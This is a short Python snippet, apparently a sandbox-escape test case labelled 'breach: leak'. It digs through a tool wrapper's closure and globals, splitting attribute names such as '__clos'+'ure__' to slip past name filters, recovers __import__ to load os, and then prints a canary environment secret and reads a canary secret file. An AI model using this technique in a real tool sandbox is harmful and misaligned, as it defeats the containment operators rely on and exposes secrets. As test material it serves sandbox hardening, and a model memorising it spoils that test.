# __closure__ of the tool wrapper.
# breach: leak
c = getattr(add, '__clos'+'ure__')
for x in c:
    v = getattr(x, 'cell_contents')
    try:
        g = getattr(getattr(v, 'fn', v), '__glo'+'bals__'); b = g['__builtins__']
        imp = b['__import__'] if isinstance(b, dict) else b.__import__
        o = imp('os')
    except Exception as e: print(repr(e))
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
